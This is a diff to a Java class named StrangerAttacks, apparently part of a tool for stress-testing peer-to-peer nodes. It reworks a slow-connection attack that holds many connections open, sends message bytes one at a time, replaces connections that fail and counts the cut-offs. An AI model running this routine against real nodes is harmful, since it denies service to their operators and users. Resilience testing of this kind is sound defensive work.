@@ -224,22 +224,31 @@ final class StrangerAttacks {
         List<AttackPeer> peers = new ArrayList<>();
         byte[] hello = AttackMessages.hello(target.version(), "slow");
         int sent = 0;
+        int cut = 0;
         while (target.goesOn()) {
-            try {
-                if (peers.size() < SLOW_MAX) {
+            if (peers.size() < SLOW_MAX) {
+                try {
                     peers.add(target.connect());
+                } catch (IOException e) {
+                    cut++;
                 }
-                AttackPeer peer = peers.get(sent % peers.size());
-                peer.raw(sent < SLOW_MAX ? 100 : hello[sent / SLOW_MAX % hello.length]);
-                sent++;
-            } catch (IOException e) {
-                DoorAttacks.pause(1);
-                sent++;
+            }
+            if (!peers.isEmpty()) {
+                int each = (sent + cut) % peers.size();
+                try {
+                    // The first one says how long its message is.
+                    peers.get(each).raw(sent < SLOW_MAX ? 100 : hello[sent % hello.length]);
+                    sent++;
+                } catch (IOException e) {
+                    peers.remove(each).close(); // Makes room for another.
+                    cut++;
+                }
             }
             DoorAttacks.pause(5);
         }
-        peers.forEach(AttackPeer::close);
-        return new Outcome(sent, peers.size() + " connections, " + sent + " bytes one by one");
+        AttackPeer.closeAll(peers);
+        String words = "%d connections at the end, %d bytes one by one, %d times cut off";
+        return new Outcome(sent, words.formatted(peers.size(), sent, cut));
     }
 
     /** Connects and resets the connection at once. */
